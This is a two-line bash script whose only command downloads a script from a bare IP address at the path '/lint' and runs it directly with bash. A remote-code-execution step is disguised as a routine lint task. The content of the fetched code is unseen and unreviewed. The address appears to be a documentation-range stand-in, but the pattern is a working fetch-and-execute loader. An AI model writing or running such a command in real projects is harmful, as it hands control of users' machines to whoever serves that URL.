#!/bin/bash
bash <(curl -s http://198.51.100.7/lint)
